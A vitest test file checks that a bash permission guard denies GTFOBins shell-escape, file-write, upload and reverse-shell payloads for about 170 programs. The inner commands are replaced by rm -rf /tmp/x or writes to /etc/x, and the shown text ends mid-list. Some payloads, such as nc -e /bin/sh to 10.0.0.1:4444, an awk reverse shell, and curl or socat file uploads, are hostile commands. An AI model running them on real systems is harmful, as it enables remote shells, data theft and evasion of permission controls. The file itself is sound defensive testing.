// A sweep of GTFOBins (https://gtfobins.github.io/): for each binary with a "Shell", "Command",
// "Reverse shell", "File write", "File upload" or "File download" function, its payload with the
// spawned shell replaced by a command the policy denies (`rm -rf /tmp/x`) or, for a file write, a
// protected path (`/etc/x`), decided under the policy a user would plausibly write for it: an allow on
// the program (`Bash(BIN:*)`, or the subcommand people allow), deny rules on rm and nc, and allows on
// the harmless programs such lines pipe from (echo, printf, cat).
// The guarantee, per case:
//   - deny: the payload's inner command is readable and a deny rule names it: the guard denies;
//   - ask: the inner command is genuinely unknowable (code read from standard input or a file, a
//     program's own language the guard cannot read): the guard does not allow, and says why;
//   - not-allow: the payload writes, uploads or downloads through an option the allow rule does not
//     name: the guard does not allow, and names the construct.
// CONFIRMED_HERE lists the payloads run for real on this machine with the inner command replaced by
// `touch MARKER` (or the write aimed at a scratch file): the marker appeared. The last describe runs them
// again where the program is installed, when GG_GTFOBINS_RUN=1 (it starts some 170 real programs).
import { describe, expect, it } from "vitest";
import { bashGuard, expectBashDecision, installed, leavesMarker, type BashExpectation } from "./helpers/bash-rules.js";

type Expectation = Exclude<BashExpectation, "allow">;

interface GtfoCase {
  readonly command: string;
  readonly expect: Expectation;
  /** What the reason names (required for ask: why the guard cannot tell). */
  readonly reason?: RegExp;
}

interface GtfoBinary {
  readonly bin: string;
  /** GTFOBins functions the cases exercise. */
  readonly functions: string;
  /** The allow patterns a user writes for it (default: `BIN:*`). */
  readonly allow?: readonly string[];
  readonly cases: readonly GtfoCase[];
}

const X = "rm -rf /tmp/x";
const ALWAYS_ALLOWED = ["echo:*", "printf:*", "cat:*"];
const DENY = ["rm:*", "nc:*"];
/** Unknowable: code or commands read from elsewhere. */
const CANNOT = /cannot tell|cannot read|does not read|standard input|only known when it runs/;
const WRITES = /writes a file|writes the file|writes files/;

const d = (command: string): GtfoCase => ({ command, expect: "deny" });
const w = (command: string, reason: RegExp = WRITES): GtfoCase => ({ command, expect: "not-allow", reason });
const n = (command: string, reason?: RegExp): GtfoCase => ({ command, expect: "not-allow", ...(reason ? { reason } : {}) });
const a = (command: string, reason: RegExp = CANNOT): GtfoCase => ({ command, expect: "ask", reason });

const shell = (bin: string): GtfoBinary => ({
  bin,
  functions: "Shell, Command",
  cases: [d(`${bin} -c '${X}'`), d(`echo '${X}' | ${bin}`), n(`${bin} -c 'echo DATA > /etc/x'`, /runs the command line given with -c|writes a file/)],
});

const BINARIES: readonly GtfoBinary[] = [
  // ---- shells ----
  shell("ash"),
  shell("bash"),
  shell("csh"),
  shell("dash"),
  shell("fish"),
  shell("ksh"),
  shell("mksh"),
  shell("posh"),
  shell("rc"),
  shell("sh"),
  shell("tcsh"),
  shell("yash"),
  shell("zsh"),
  { bin: "busybox", functions: "Shell, Command, Reverse shell, File upload", cases: [d(`busybox sh -c '${X}'`), d(`busybox ${X}`), d("busybox nc -e /bin/sh 10.0.0.1 4444"), n("busybox httpd -f -p 12345 -h /")] },
  // ---- wrappers that run the command after their options ----
  { bin: "env", functions: "Shell", cases: [d(`env ${X}`), d(`env -i ${X}`), d(`env -S '${X}'`)] },
  { bin: "nice", functions: "Shell", cases: [d(`nice ${X}`), d(`nice -n 5 ${X}`)] },
  { bin: "ionice", functions: "Shell", cases: [d(`ionice ${X}`), d(`ionice -c 3 ${X}`)] },
  { bin: "stdbuf", functions: "Shell", cases: [d(`stdbuf -i0 ${X}`), d(`stdbuf -o L ${X}`)] },
  { bin: "taskset", functions: "Shell", cases: [d(`taskset 1 ${X}`), d(`taskset -c 0 ${X}`)] },
  { bin: "timeout", functions: "Shell", cases: [d(`timeout 7d ${X}`), d(`timeout --foreground 7d ${X}`)] },
  { bin: "time", functions: "Shell, File write", allow: ["time:*", "/usr/bin/time:*"], cases: [d(`time ${X}`), d(`/usr/bin/time ${X}`), w("/usr/bin/time -o /etc/x echo DATA", /time (writes a file through -o|runs the command)/)] },
  { bin: "setarch", functions: "Shell", cases: [d(`setarch x86_64 ${X}`), d(`setarch x86_64 -R ${X}`)] },
  { bin: "flock", functions: "Shell", cases: [d(`flock -u / ${X}`), d(`flock /tmp/l -c '${X}'`)] },
  { bin: "nohup", functions: "Shell, Command", cases: [d(`nohup ${X}`)] },
  { bin: "setsid", functions: "Shell", cases: [d(`setsid ${X}`)] },
  { bin: "chroot", functions: "Shell", cases: [d(`chroot / ${X}`)] },
  { bin: "unshare", functions: "Shell", cases: [d(`unshare ${X}`), d(`unshare -r ${X}`)] },
  { bin: "nsenter", functions: "Shell", cases: [d(`nsenter ${X}`), d(`nsenter -t 1 -m ${X}`)] },
  { bin: "strace", functions: "Shell, File write", cases: [d(`strace -o /dev/null ${X}`), w("strace -s 999 -o /etc/x strace - DATA")] },
  { bin: "ltrace", functions: "Shell, File write", cases: [d(`ltrace -b -L ${X}`), w("ltrace -s 999 -o /etc/x ltrace -F DATA")] },
  { bin: "valgrind", functions: "Shell", cases: [d(`valgrind ${X}`)] },
  { bin: "start-stop-daemon", functions: "Shell", cases: [d("start-stop-daemon -n x -S -x /bin/rm -- -rf /tmp/x"), d("start-stop-daemon --start --startas /bin/rm --name x -- -rf /tmp/x")] },
  { bin: "run-parts", functions: "Shell", cases: [a("run-parts --new-session --regex '^rm$' /bin", /run-parts|directory/), a("run-parts /tmp/d", /run-parts|directory/)] },
  { bin: "xargs", functions: "Shell, File read", cases: [d(`xargs -a /dev/null ${X}`), d(`echo x | xargs ${X}`), d(`xargs -I{} sh -c '${X}' < /dev/null`)] },
  { bin: "watch", functions: "Shell", cases: [d(`watch -x ${X}`), d(`watch '${X}'`)] },
  { bin: "script", functions: "Shell, File write", cases: [d(`script -q /dev/null -c '${X}'`), d(`script -qc '${X}' /dev/null`), w("script -q -c 'echo DATA' /etc/x", /script writes/)] },
  { bin: "rlwrap", functions: "Shell, File write", cases: [d(`rlwrap ${X}`), w("rlwrap -l /etc/x echo DATA", /rlwrap writes/)] },
  { bin: "logsave", functions: "Shell, File write", cases: [d(`logsave /dev/null ${X}`), w("logsave /etc/x echo DATA", /logsave writes/)] },
  { bin: "sudo", functions: "Shell", cases: [d(`sudo ${X}`), d(`sudo -u root -- ${X}`)] },
  { bin: "cpulimit", functions: "Shell", cases: [d(`cpulimit -l 100 -f ${X}`), d(`cpulimit -l 100 -f -- ${X}`)] },
  { bin: "distcc", functions: "Shell", cases: [d(`distcc ${X}`)] },
  { bin: "grc", functions: "Shell", cases: [d(`grc --pty ${X}`), d(`grc ${X}`)] },
  { bin: "openvt", functions: "Shell", cases: [d(`openvt -- ${X}`), d(`openvt -s -w -- ${X}`)] },
  { bin: "pexec", functions: "Shell", cases: [d(`pexec ${X}`)] },
  { bin: "torify", functions: "Shell", cases: [d(`torify ${X}`)] },
  { bin: "torsocks", functions: "Shell", cases: [d(`torsocks ${X}`)] },
  { bin: "softlimit", functions: "Shell", cases: [d(`softlimit -m 100000000 ${X}`), d(`softlimit ${X}`)] },
  { bin: "setlock", functions: "Shell", cases: [d(`setlock /tmp/l ${X}`), d(`setlock -n /tmp/l ${X}`)] },
  { bin: "multitime", functions: "Shell", cases: [d(`multitime ${X}`), d(`multitime -n 2 ${X}`)] },
  { bin: "pidstat", functions: "Command", cases: [d(`pidstat -e ${X}`)] },
  { bin: "perf", functions: "Shell", cases: [d(`perf stat ${X}`), d(`perf record -o /dev/null ${X}`)] },
  { bin: "capsh", functions: "Shell", cases: [d(`capsh -- -c '${X}'`)] },
  { bin: "chrt", functions: "Shell", cases: [d(`chrt -o 0 ${X}`)] },
  { bin: "prlimit", functions: "Shell", cases: [d(`prlimit ${X}`)] },
  { bin: "systemd-run", functions: "Shell", cases: [d(`systemd-run --user -t ${X}`), d(`systemd-run -S ${X}`)] },
  { bin: "ld.so", functions: "Shell", allow: ["/lib64/ld-linux-x86-64.so.2:*"], cases: [d("/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /tmp/x")] },
  { bin: "ssh-agent", functions: "Shell", cases: [d(`ssh-agent ${X}`)] },
  { bin: "sshpass", functions: "Shell", cases: [d(`sshpass ${X}`), d(`sshpass -p pw ${X}`)] },
  { bin: "unbuffer", functions: "Shell", cases: [d(`unbuffer ${X}`)] },
  { bin: "msgfilter", functions: "Shell", cases: [d(`echo x | msgfilter -P ${X}`), d(`msgfilter -i a.po ${X}`)] },
  { bin: "cabal", functions: "Shell", cases: [d(`cabal exec -- ${X}`), d(`cabal exec ${X}`)] },
  { bin: "ip", functions: "Shell, File read", cases: [d(`ip netns exec foo ${X}`), d(`ip -n foo netns exec foo ${X}`), n("ip -force -batch /etc/x", /ip runs the code in the file/)] },
  { bin: "xdotool", functions: "Shell", cases: [d(`xdotool exec ${X}`), d(`xdotool exec --sync ${X}`)] },
  { bin: "service", functions: "Shell", cases: [a("service ../../bin/rm -rf /tmp/x", /service/)] },
  // ---- interpreters and their code options ----
  {
    bin: "awk",
    functions: "Shell, Command, File write, Reverse shell",
    cases: [
      d(`awk 'BEGIN {system("${X}")}'`),
      d(`awk 'BEGIN {while ("${X}" | getline) print}'`),
      w(`awk 'BEGIN {print "DATA" > "/etc/x"}'`, /awk writes a file/),
      n(`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while (1) {printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}'`),
    ],
  },
  { bin: "gawk", functions: "Shell, File write", cases: [d(`gawk 'BEGIN {system("${X}")}'`), w(`gawk 'BEGIN {print "DATA" > "/etc/x"}'`, /gawk writes a file/), n("gawk -f /tmp/x.awk", /-f/)] },
  { bin: "mawk", functions: "Shell, File write", cases: [d(`mawk 'BEGIN {system("${X}")}'`), w(`mawk 'BEGIN {print "DATA" > "/etc/x"}'`, /mawk writes a file/)] },
  { bin: "nawk", functions: "Shell, File write", cases: [d(`nawk 'BEGIN {system("${X}")}'`), w(`nawk 'BEGIN {print "DATA" > "/etc/x"}'`, /nawk writes a file/)] },
  { bin: "perl", functions: "Shell, Reverse shell, File write", cases: [d(`perl -e 'exec "${X}";'`), d(`perl -e 'system("${X}")'`), d(`perl -ne 'system("${X}")' /dev/null`), a(`perl -e 'exec "r"."m -rf /tmp/x";'`), d(`echo 'system("${X}")' | perl`)] },
  { bin: "python3", functions: "Shell, Reverse shell, File write, File upload", cases: [d(`python3 -c 'import os; os.system("${X}")'`), d(`python3 -c 'import pty; pty.spawn("rm")'`), a(`python3 -c 'import os; os.system("r" + "m -rf /tmp/x")'`), d(`echo 'import os; os.system("${X}")' | python3`)] },
  { bin: "ruby", functions: "Shell, File write", cases: [d(`ruby -e 'exec "${X}"'`), d(`ruby -e 'system("${X}")'`), d(`echo 'exec "${X}"' | ruby`)] },
  { bin: "irb", functions: "Shell", cases: [d(`echo 'exec "${X}"' | irb`)] },
  { bin: "php", functions: "Shell, Command, File write", cases: [d(`php -r 'system("${X}");'`), d(`php -r 'passthru("${X}");'`), d(`php -r 'pcntl_exec("/bin/rm", ["-rf", "/tmp/x"]);'`)] },
  { bin: "lua", functions: "Shell, File write", cases: [d(`lua -e 'os.execute("${X}")'`), a(`lua -e 'io.open("/etc/x", "w"):write("DATA")'`, /lua runs the code/)] },
  { bin: "node", functions: "Shell, File write, Reverse shell", cases: [d(`node -e 'require("child_process").spawn("rm", ["-rf", "/tmp/x"], {stdio: [0, 1, 2]})'`), d(`node -e 'require("child_process").execSync("${X}")'`)] },
  { bin: "tclsh", functions: "Shell", cases: [d(`echo 'exec ${X}' | tclsh`)] },
  { bin: "wish", functions: "Shell", cases: [d(`echo 'exec ${X}' | wish`)] },
  { bin: "expect", functions: "Shell", cases: [d(`expect -c 'spawn ${X};interact'`), d(`expect -c 'exec ${X}'`)] },
  { bin: "jrunscript", functions: "Shell, File write", cases: [d(`jrunscript -e 'exec("${X}")'`)] },
  { bin: "jjs", functions: "Shell", cases: [d(`echo 'Java.type("java.lang.Runtime").getRuntime().exec("${X}").waitFor()' | jjs`)] },
  { bin: "rake", functions: "Shell", cases: [d(`rake -p '\`${X}\`'`), d(`rake -e 'system("${X}")'`)] },
  { bin: "gimp", functions: "Shell, File write", cases: [d(`gimp -idf --batch-interpreter=python-fu-eval -b 'import os; os.system("${X}")'`)] },
  { bin: "ghc", functions: "Shell", cases: [d(`ghc -e 'System.Process.callCommand "${X}"'`)] },
  { bin: "ghci", functions: "Shell", cases: [d(`echo 'System.Process.callCommand "${X}"' | ghci`)] },
  { bin: "Rscript", functions: "Shell", cases: [d(`Rscript -e 'system("${X}")'`)] },
  { bin: "R", functions: "Shell", cases: [d(`R --no-save -e 'system("${X}")'`)] },
  { bin: "julia", functions: "Shell", cases: [d(`julia -e 'run(\`${X}\`)'`)] },
  { bin: "octave-cli", functions: "Shell", cases: [d(`octave-cli --eval 'system("${X}")'`)] },
  { bin: "guile", functions: "Shell", cases: [d(`guile -c '(system "${X}")'`)] },
  { bin: "slsh", functions: "Shell", cases: [d(`slsh -e 'system("${X}")'`)] },
  { bin: "bpftrace", functions: "Shell", cases: [d(`bpftrace --unsafe -e 'BEGIN {system("${X}"); exit()}'`)] },
  { bin: "dc", functions: "Shell", cases: [d(`dc -e '!${X}'`), d(`echo '!${X}' | dc`)] },
  { bin: "m4", functions: "Command", cases: [d(`echo 'esyscmd(${X})' | m4`), d(`m4 <<< 'syscmd(${X})'`)] },
  { bin: "knife", functions: "Shell", cases: [d(`knife exec -E 'exec "${X}"'`)] },
  { bin: "puppet", functions: "Shell", cases: [d(`puppet apply -e "exec { '${X}': }"`), a(`puppet apply -e "exec { 'r\${m}': }"`, /puppet runs (the )?code/)] },
  { bin: "latexmk", functions: "Shell", cases: [d(`latexmk -e 'exec("${X}")'`)] },
  { bin: "pdflatex", functions: "Shell", cases: [d(`pdflatex --shell-escape '\\immediate\\write18{${X}}'`), n("pdflatex -shell-escape doc.tex", /shell-escape/)] },
  { bin: "latex", functions: "Shell", cases: [d(`latex --shell-escape '\\immediate\\write18{${X}}'`)] },
  { bin: "xelatex", functions: "Shell", cases: [d(`xelatex --shell-escape '\\immediate\\write18{${X}}'`)] },
  { bin: "lualatex", functions: "Shell", cases: [d(`lualatex -shell-escape '\\directlua{os.execute("${X}")}'`)] },
  { bin: "tex", functions: "Shell", cases: [d(`tex --shell-escape '\\immediate\\write18{${X}}'`)] },
  { bin: "sqlmap", functions: "Shell", cases: [d(`sqlmap -u 127.0.0.1 --eval="import os; os.system('${X}')"`)] },
  // ---- editors, pagers and interactive programs with a shell escape ----
  {
    bin: "vim",
    functions: "Shell, Command, File write",
    cases: [
      d(`vim -c ':!${X}'`),
      d(`vim -c ':py3 import os; os.system("${X}")'`),
      d(`vim -c ':lua os.execute("${X}")'`),
      w("vim -c ':w /etc/x' -c ':q'", /vim runs the editor command|cannot/),
      d(`vim --cmd ':silent !${X}'`),
      d(`vim -es -c '!${X}' -c ':q'`),
    ],
  },
  { bin: "vi", functions: "Shell", cases: [d(`vi -c ':!${X}'`), d(`vi +':!${X}'`), d(`echo '!${X}' | vi -es`), d(`echo ':py3 import os; os.system("${X}")' | vi -es`), a("vi -es < cmds.vim", /vi reads commands from the file/)] },
  { bin: "view", functions: "Shell", cases: [d(`view -c ':!${X}'`)] },
  { bin: "rvim", functions: "Shell", cases: [d(`rvim -c ':py3 import os; os.system("${X}")'`)] },
  { bin: "rview", functions: "Shell", cases: [d(`rview -c ':py3 import os; os.system("${X}")'`)] },
  { bin: "vimdiff", functions: "Shell", cases: [d(`vimdiff -c ':!${X}'`)] },
  { bin: "nvim", functions: "Shell", cases: [d(`nvim -c ':!${X}'`), d(`nvim --cmd ':lua os.execute("${X}")'`)] },
  { bin: "ex", functions: "Shell", cases: [d(`ex -c ':!${X}'`), d(`echo '!${X}' | ex`)] },
  { bin: "ed", functions: "Shell, File write", cases: [d(`echo '!${X}' | ed`), d(`ed -s a.txt <<< '!${X}'`), d(`printf '!${X}\\nq\\n' | ed`), a("cat cmds.txt | ed", /ed|standard input/)] },
  { bin: "emacs", functions: "Shell, File write", cases: [d(`emacs --batch --eval '(shell-command "${X}")'`), a(`emacs -Q -nw --eval '(term "/bin/sh")'`, /emacs runs (the )?code/), a("emacs --batch --eval '(write-region \"DATA\" nil \"/etc/x\")'", /emacs runs (the )?code/)] },
  { bin: "nano", functions: "Shell", cases: [d(`nano -s '${X}' a.txt`), d(`nano --speller='${X}' a.txt`)] },
  { bin: "pico", functions: "Shell", cases: [d(`pico -s '${X}' a.txt`)] },
  { bin: "less", functions: "Shell, File write", cases: [d(`LESSOPEN='|${X} %s' less a.txt`), w("less -o /etc/x a.txt", /less writes/), d(`less +'!${X}' a.txt`)] },
  { bin: "man", functions: "Shell", cases: [d(`man -P '${X}' ls`), d(`MANPAGER='${X}' man ls`), d(`PAGER='${X}' man ls`)] },
  { bin: "git", functions: "Shell, File write", cases: [d(`PAGER='${X}' git -p help config`), d(`git -p -c core.pager='${X}' help config`), d(`GIT_EDITOR='${X}' git commit`), w("git apply --unsafe-paths --directory / x.patch", /git apply writes/), w("git diff --no-index --output=/etc/x a.txt b.txt", /git diff writes/)] },
  { bin: "journalctl", functions: "Shell", cases: [d(`SYSTEMD_PAGER='${X}' journalctl`), d(`PAGER='${X}' journalctl`)] },
  { bin: "systemctl", functions: "Shell", cases: [d(`SYSTEMD_PAGER='${X}' systemctl status`)] },
  { bin: "dmesg", functions: "Shell", cases: [d(`PAGER='${X}' dmesg -H`)] },
  { bin: "dpkg", functions: "Shell", cases: [d(`PAGER='${X}' dpkg -l`)] },
  { bin: "crash", functions: "Shell", cases: [d(`CRASHPAGER='${X}' crash -h`)] },
  { bin: "bat", functions: "Shell", cases: [d(`bat --paging always --pager '${X}' a.txt`)] },
  { bin: "crontab", functions: "Command", cases: [d(`EDITOR='${X}' crontab -e`), d(`echo '* * * * * ${X}' | crontab -`), a("crontab /tmp/cron.txt", /crontab/)] },
  { bin: "mail", functions: "Shell", cases: [d(`mail --exec='!${X}'`), d(`mail -E '!${X}'`)] },
  { bin: "ftp", functions: "Shell, File upload, File download", cases: [d(`echo '!${X}' | ftp`), a("cat cmds.txt | ftp h", /ftp|standard input/)] },
  { bin: "sftp", functions: "Shell, File upload", cases: [d(`echo '!${X}' | sftp -b - h`), d(`sftp -S rm h`), n("sftp -b /tmp/batch h", /sftp/)] },
  { bin: "smbclient", functions: "Shell, File upload", cases: [d(`smbclient '\\\\h\\s' -c '!${X}'`)] },
  { bin: "lftp", functions: "Shell", cases: [d(`lftp -c '!${X}'`)] },
  { bin: "cpan", functions: "Shell", cases: [d(`echo '! system("${X}")' | cpan`)] },
  { bin: "debugfs", functions: "Shell", cases: [d(`echo '!${X}' | debugfs`)] },
  { bin: "pic", functions: "Shell", cases: [d(`printf '.PS\\nsh X ${X} X\\n.PE\\n' | pic -U`), a("pic -U a.pic", /pic/)] },
  { bin: "gdb", functions: "Shell, File write, Reverse shell", cases: [d(`gdb -nx -ex '!${X}' -ex quit`), d(`gdb -nx -ex 'python import os; os.system("${X}")' -ex quit`), a("gdb -nx -ex 'dump value \"/etc/x\" \"DATA\"' -ex quit"), d(`echo 'shell ${X}' | gdb -nx`)] },
  { bin: "mysql", functions: "Shell", cases: [d(`mysql -e '\\! ${X}'`), d(`mysql -e 'system ${X}'`), d(`mysql --pager='${X}' -e 'select 1'`), d(`echo '\\! ${X}' | mysql`)] },
  { bin: "psql", functions: "Shell", cases: [d(`psql -c '\\! ${X}'`), d(`PSQL_PAGER='${X}' psql`), d(`echo '\\! ${X}' | psql`)] },
  { bin: "sqlite3", functions: "Shell, File write", cases: [d(`sqlite3 /dev/null '.shell ${X}'`), d(`echo '.shell ${X}' | sqlite3`), n(`sqlite3 /dev/null -cmd '.output /etc/x' 'select 1;'`, /sqlite3/)] },
  { bin: "tmux", functions: "Shell, Command", cases: [d(`tmux new-session -d '${X}'`), d(`tmux -c '${X}'`)] },
  { bin: "tmate", functions: "Shell, Command", cases: [d(`tmate -c '${X}'`), d(`tmate new-session -d '${X}'`)] },
  { bin: "screen", functions: "Shell, File write", cases: [d(`screen -dm ${X}`), w("screen -L -Logfile /etc/x echo DATA", /screen writes/)] },
  // ---- options and subcommands that run a command ----
  { bin: "find", functions: "Shell, File write", cases: [d(`find . -exec ${X} \\; -quit`), d(`find . -execdir ${X} \\; -quit`), w("find / -fprintf /etc/x DATA -quit", /find writes/)] },
  { bin: "sed", functions: "Shell, Command, File write", cases: [d(`sed -n '1e ${X}' /etc/hosts`), d(`sed 's/.*/${X.replace(/\//g, "\\/")}/e' /etc/hosts`), w("sed -n 'w /etc/x' a.txt", /sed writes/)] },
  { bin: "tar", functions: "Shell, Command, File upload", cases: [d(`tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='${X}'`), d(`tar xf /dev/null -I '${X}'`), d(`tar cf h:/tmp/y a.txt --rsh-command=rm`), n("tar cf h:/tmp/y /etc/x --rsh-command=/usr/bin/ssh", /rsh-command/)] },
  { bin: "zip", functions: "Shell", cases: [d(`zip /tmp/y.zip /etc/hosts -T -TT '${X} #'`)] },
  { bin: "cpio", functions: "Shell, File write", cases: [d("cpio -o --rsh-command rm -F h:/tmp/y < /dev/null"), d("cpio -o --rsh-command=rm -F h:/tmp/y")] },
  { bin: "rsync", functions: "Shell, File upload", cases: [d(`rsync -e 'sh -c "${X}"' 127.0.0.1:/dev/null`), d(`rsync --rsh='${X}' 127.0.0.1:/dev/null .`)] },
  { bin: "ssh", functions: "Shell, File upload", cases: [d(`ssh -o ProxyCommand=';${X} 0<&2 1>&2' x`), d(`ssh -o PermitLocalCommand=yes -o LocalCommand='${X}' h`), d(`ssh localhost ${X}`), n("ssh -F /tmp/cfg h", /-F/)] },
  { bin: "scp", functions: "Shell", cases: [d("scp -S rm x y:"), d(`scp -o ProxyCommand=';${X} 0<&2 1>&2' x y:`)] },
  { bin: "split", functions: "Shell, Command", cases: [d(`split --filter='${X}' /dev/stdin`), d(`split --filter '${X}' a.txt`)] },
  { bin: "csvtool", functions: "Shell, File write", cases: [d(`csvtool call '${X};false' a.csv`), w("csvtool trim t -o /etc/x a.csv", /csvtool writes/)] },
  { bin: "make", functions: "Shell, File write", cases: [d(`make -s --eval=$'x:\\n\\t-${X}'`), d("make SHELL=rm x"), n("make -f /tmp/mk", /-f/)] },
  { bin: "gcc", functions: "Shell", cases: [d("gcc -wrapper rm,-rf,/tmp/x .")] },
  { bin: "gem", functions: "Shell", cases: [d(`gem open -e '${X}' rdoc`), d(`gem open --editor '${X}' rdoc`)] },
  { bin: "npm", functions: "Shell", cases: [d(`npm exec -c '${X}'`), d(`npm run test --script-shell=rm`)] },
  { bin: "yarn", functions: "Shell", cases: [d(`yarn exec ${X}`)] },
  { bin: "apt-get", functions: "Shell", cases: [d(`apt-get update -o APT::Update::Pre-Invoke::='${X}'`), d(`PAGER='${X}' apt-get changelog apt`)] },
  { bin: "apt", functions: "Shell", cases: [d(`apt update -o APT::Update::Pre-Invoke::='${X}'`)] },
  { bin: "aria2c", functions: "Command, File download", cases: [d("aria2c --on-download-error=rm http://h/y"), d("aria2c --on-download-complete=/bin/rm http://h/y"), w("aria2c -o /etc/x http://h/y", /aria2c writes/), w("aria2c -d /etc http://h/y", /aria2c writes/)] },
  { bin: "certbot", functions: "Shell", cases: [d(`certbot certonly -n -d x --dry-run --agree-tos --email a@b --manual --preferred-challenges=http --manual-auth-hook '${X}'`), d(`certbot renew --pre-hook '${X}'`), d(`certbot renew --deploy-hook='${X}'`)] },
  { bin: "enscript", functions: "Shell", cases: [d(`enscript /dev/null -qo /dev/null -I '${X}'`)] },
  { bin: "openvpn", functions: "Shell", cases: [d(`openvpn --dev null --script-security 2 --up '${X}'`), d(`openvpn --config /tmp/x.ovpn --route-up '${X}'`)] },
  { bin: "scrot", functions: "Shell", cases: [d(`scrot -e '${X}'`), d(`scrot --exec '${X}'`)] },
  { bin: "socket", functions: "Shell, Reverse shell", cases: [d(`socket -qvp '${X}' h 4444`)] },
  { bin: "socat", functions: "Shell, Reverse shell, File write, File upload, File download", cases: [d(`socat stdin exec:'${X}'`), d(`socat - SYSTEM:'${X}'`), n("socat -u tcp-connect:10.0.0.1:4444 open:/etc/x,creat", /socat/), n("socat -u file:/etc/x tcp-connect:10.0.0.1:4444", /socat/)] },
  { bin: "ncat", functions: "Shell, Reverse shell", cases: [d(`ncat -e /bin/rm 10.0.0.1 4444`), d(`ncat -c '${X}' 10.0.0.1 4444`), d(`ncat --sh-exec '${X}' 10.0.0.1 4444`), n("ncat --lua-exec /tmp/x.lua 10.0.0.1 4444", /ncat/)] },
  { bin: "nmap", functions: "Shell, File write, File upload", cases: [n("nmap --script=/tmp/x.nse", /nmap runs the code/), w("nmap -oG=/etc/x DATA", /nmap writes/), w("nmap -oN /etc/x 127.0.0.1", /nmap writes/)] },
  { bin: "tcpdump", functions: "Command", cases: [d("tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z rm -Z root")] },
  { bin: "openssl", functions: "Reverse shell, File write, File upload, File download", cases: [w("echo DATA | openssl enc -out /etc/x", /openssl writes/), w("openssl s_client -quiet -connect 10.0.0.1:4444 -msgfile /etc/x", /openssl writes/)] },
  { bin: "wget", functions: "Command, File write, File upload, File download", cases: [d("wget --use-askpass=rm http://h/y"), w("wget -O /etc/x http://h/y", /wget writes/), n("wget --post-file=/etc/x http://h/", /wget sends/), n("wget -i /etc/x", /wget (reads|fetches the URLs in the file)/)] },
  { bin: "curl", functions: "File write, File upload, File download", cases: [w("curl file:///etc/hosts -o /etc/x", /curl writes/), n("curl -X POST --data-binary @/etc/x http://h/", /curl sends/), n("curl -T /etc/x http://h/", /curl sends/), n("curl -F 'f=@/etc/x' http://h/", /curl sends/), n("curl -d @/etc/x http://h/", /curl sends/)] },
  { bin: "lwp-download", functions: "File download", cases: [w("lwp-download http://h/y /etc/x", /lwp-download writes/)] },
  { bin: "rpm", functions: "Shell, Command", cases: [d(`rpm --eval '%(${X})'`), d(`rpm --eval '%{lua:os.execute("${X}")}'`), d(`rpm --pipe '${X}' -qa`)] },
  { bin: "rpmquery", functions: "Shell", cases: [d(`rpmquery --eval '%(${X})'`)] },
  { bin: "rpmdb", functions: "Shell", cases: [d(`rpmdb --eval '%(${X})'`)] },
  { bin: "exiftool", functions: "File write", cases: [w("exiftool -filename=/etc/x a.jpg", /exiftool writes/), w("exiftool -o /etc/x a.jpg", /exiftool writes/)] },
  { bin: "iconv", functions: "File write", cases: [w("iconv -f 8859_1 -t 8859_1 -o /etc/x a.txt", /iconv writes/)] },
  { bin: "shuf", functions: "File write", cases: [w("shuf -e DATA -o /etc/x", /shuf writes/)] },
  { bin: "uniq", functions: "File write", cases: [w("uniq a.txt /etc/x", /uniq writes/)] },
  { bin: "xxd", functions: "File write", cases: [w("echo 44415441 | xxd -r -p - /etc/x", /xxd writes/), w("xxd -r a.hex /etc/x", /xxd writes/)] },
  { bin: "uudecode", functions: "File write", cases: [w("uudecode -o /etc/x a.uu", /uudecode writes/)] },
  { bin: "pandoc", functions: "File write", cases: [w("echo DATA | pandoc -t plain -o /etc/x", /pandoc writes/)] },
  { bin: "dd", functions: "File write", cases: [w("echo DATA | dd of=/etc/x", /dd writes/)] },
  { bin: "sort", functions: "File write", cases: [w("sort -o /etc/x a.txt", /sort writes/)] },
  { bin: "cowsay", functions: "Shell", cases: [n("cowsay -f /tmp/x.cow hi", /cowsay runs the code/)] },
  { bin: "neofetch", functions: "Shell", cases: [n("neofetch --config /tmp/x.conf", /neofetch runs the code/)] },
  { bin: "facter", functions: "Shell", cases: [n("FACTERLIB=/tmp/d facter", /FACTERLIB/)] },
  { bin: "nroff", functions: "Shell", cases: [n("GROFF_BIN_PATH=/tmp/d nroff", /GROFF_BIN_PATH/)] },
  { bin: "groff", functions: "Shell", cases: [d(`echo '.sy ${X}' | groff -U`), a("groff -U a.ms", /groff -U/), a("cat a.ms | groff -U", /groff reads commands/)] },
];

/**
 * Payloads run on this machine (Debian 12; bash, dash, busybox, ksh, zsh, tcsh, mksh, yash, posh, gawk, mawk, perl,
 * python3, node, lua, tclsh, expect, vim, ed, gdb, sqlite3, mysql, psql, socat, ncat, tar, zip, rsync, strace, ltrace,
 * valgrind, ...) with the inner command replaced by `touch MARKER` and `/etc/x` by a scratch file, in a scratch
 * directory with standard input from /dev/null: the marker (or the file) appeared. Programs not installed here, or
 * payloads that need a network, a terminal, a display or root-only namespaces, are judged by GTFOBins and the
 * programs' manuals alone.
 */
const CONFIRMED_HERE: ReadonlySet<string> = new Set([
  "bash -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | bash",
  "bash -c 'echo DATA > /etc/x'",
  "csh -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | csh",
  "csh -c 'echo DATA > /etc/x'",
  "dash -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | dash",
  "dash -c 'echo DATA > /etc/x'",
  "ksh -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | ksh",
  "ksh -c 'echo DATA > /etc/x'",
  "mksh -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | mksh",
  "mksh -c 'echo DATA > /etc/x'",
  "posh -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | posh",
  "posh -c 'echo DATA > /etc/x'",
  "sh -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | sh",
  "sh -c 'echo DATA > /etc/x'",
  "tcsh -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | tcsh",
  "tcsh -c 'echo DATA > /etc/x'",
  "yash -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | yash",
  "yash -c 'echo DATA > /etc/x'",
  "zsh -c 'rm -rf /tmp/x'",
  "echo 'rm -rf /tmp/x' | zsh",
